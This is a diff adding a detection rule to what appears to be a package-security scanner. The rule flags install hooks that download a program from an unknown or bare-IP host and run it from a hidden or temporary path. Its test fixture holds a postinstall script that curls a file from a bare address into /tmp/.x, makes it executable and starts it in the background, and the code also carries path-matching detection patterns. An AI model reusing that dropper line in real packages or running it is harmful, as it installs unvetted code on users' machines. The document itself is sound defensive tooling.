@@ -1,0 +1,131 @@
+import type { Action, Fact, Flow, Inspection, Rule, SinkKind } from '../lib/types.ts'
+import { guardsInWords } from './behaviour/guards.ts'
+import { isStranger, placeInWords, placeOf } from './behaviour/place.ts'
+import type { Place } from './behaviour/place.ts'
+import { findingsOf, isUnasked } from './behaviour/sightings.ts'
+import type { Sighting, SightingGroup } from './behaviour/sightings.ts'
+import { destinationsInWords, quote, severityOf, when } from './finding.ts'
+
+type Starts = Extract<Fact, { kind: 'starts' }>
+
+/** A file that comes from the network and is then started or loaded. */
+export const downloadAndRun: Rule = {
+  meta: {
+    id: 'download-and-run',
+    title: 'Downloads a program and starts it',
+    severity: 'high',
+    description:
+      'The code fetches a file, writes it to disk and starts or loads it. Honest packages of native tools do that too: ' +
+      'from the npm registry, a release page or their own host, into their own folder. From a stranger’s host, a bare ' +
+      'address or without encryption, into a hidden or temporary file, or started out of sight, it is a dropper.',
+    references: [
+      'ua-parser-js 0.7.29 (2021)',
+      'axios 1.14.1 (March 2026)',
+      'rspack 1.1.7 (December 2024): a miner',
+      'oob-worker campaign (August 2026)',
+    ],
+    blindSpots: [
+      'Whether a checksum is compared is not known; a download is judged by where it comes from and where it goes.',
+      'A download host that is configured is not known.',
+    ],
+    examples: {
+      flags: [
+        {
+          title: 'a hook starts a download from a bare address, hidden in the temporary folder',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"sh i.sh"}}',
+            'i.sh': 'curl -s http://203.0.113.9/x -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x &\n',
+          },
+        },
+      ],
+      passes: [
+        {
+          title: 'a hook fetches the binary of its own release',
+          files: {
+            'package.json':
+              '{"name":"a","version":"1.0.0","homepage":"https://a.example","scripts":{"postinstall":"node i.js"}}',
+            'i.js':
+              "const fs = require('fs'), path = require('path')\n" +
+              "require('https').get('https://dl.a.example/tool-1.0.0', answer => {\n" +
+              "  answer.pipe(fs.createWriteStream(path.join(__dirname, 'tool')))\n" +
+              '})\n',
+          },
+        },
+      ],
+    },
+  },
+  check(inspection, context) {
+    const sightings = inspection.flows.filter(isDownload).flatMap((flow): readonly Sighting[] => {
+      const place = placeOf([flow.source.name], inspection, context)
+      const action = weigh(flow, place, isHidden(flow, inspection))
+      return action === undefined ? [] : [{ flow, place, action, severity: severityOf(action) }]
+    })
+    return findingsOf(sightings, group => say(group, inspection))
+  },
+}
+
+const loading: ReadonlySet<SinkKind> = new Set(['native-load', 'load'])
+
+/** Programs that unpack or make executable: what they are given does not run yet. */
+const handling =
+  /^(?:\S*[/\\])?(?:chmod|xattr|unzip|tar|gunzip|7z|mv|cp|mkdir|rm|ls|test|file|sha\d*sum|shasum|certutil|expand)\b/i
+
+function isDownload({ source, sink }: Flow): boolean {
+  if (source.kind !== 'network') return false
+  if (loading.has(sink.kind)) return sink.role === 'path' || sink.kind === 'native-load'
+  if (sink.kind !== 'command') return false
+  if (sink.role === 'file') return !sink.destinations.every(command => handling.test(command.trim()))
+  return (
+    sink.role === 'command' &&
+    sink.destinations.some(command => command.replaceAll('\u0001', '').trim() !== '')
+  )
+}
+
+/** Started out of sight, or from a place nobody looks at. */
+function isHidden({ sink }: Flow, inspection: Inspection): boolean {
+  const odd = sink.destinations.some(command => isOddPath(command))
+  return odd || startsAt(inspection, sink.at).some(fact => fact.manner.some(how => how !== 'shell'))
+}
+
+/** A dot file, a temporary or shared folder, a name that pretends to be another kind of file. */
+function isOddPath(text: string): boolean {
+  return /(?:^|[\s"'/\\])(?:\/tmp|\/var\/tmp|\/dev\/shm|\/private\/tmp|%temp%|\/ProgramData|~\/AppData|~\/Library\/Caches)\b|[/\\]\.[\w-]{1,40}(?:[\s"']|$)/i.test(
+    text,
+  )
+}
+
+function startsAt(inspection: Inspection, at: Flow['sink']['at']): readonly Starts[] {
+  return inspection.facts.filter(
+    (fact): fact is Starts => fact.kind === 'starts' && fact.at.path === at.path && fact.at.line === at.line,
+  )
+}
+
+function weigh(flow: Flow, place: Place, hidden: boolean): Action | undefined {
+  if (place.kind === 'local') return undefined
+  const stranger = isStranger(place)
+  if (isUnasked(flow) && !flow.byCall) {
+    if (place.kind === 'capture' || (stranger && (hidden || place.plain)))
+      return flow.certain ? 'block' : 'ask'
+    if (stranger) return 'ask'
+    return place.kind === 'unknown' && hidden ? 'ask' : 'note'
+  }
+  if (place.kind === 'capture') return flow.certain && hidden ? 'block' : 'ask'
+  return stranger ? (hidden && flow.certain ? 'ask' : 'note') : undefined
+}
+
+function say(group: SightingGroup, inspection: Inspection): string {
+  const [{ flow, place, action }] = group
+  const from = place.host?.shown ?? destinationsInWords([flow.source.name])
+  const manner = [...new Set(startsAt(inspection, flow.sink.at).flatMap(fact => fact.manner))].filter(
+    how => how !== 'shell',
+  )
+  const what = flow.sink.destinations[0]
+  const started = what === undefined ? 'it' : quote(what)
+  const how = manner.length === 0 ? '' : ` (${manner.join(', ')})`
+  const told =
+    `${when(flow.phase, flow.byCall)} it downloads a file from ${from}, ${placeInWords(place)}, and ` +
+    `${flow.sink.kind === 'command' ? 'starts' : 'loads'} ${started}${how}${guardsInWords(flow.guards)}.`
+  return action === 'note'
+    ? told
+    : `${told} Nobody has inspected that program. Do not install this package unless you know that host.`
+}
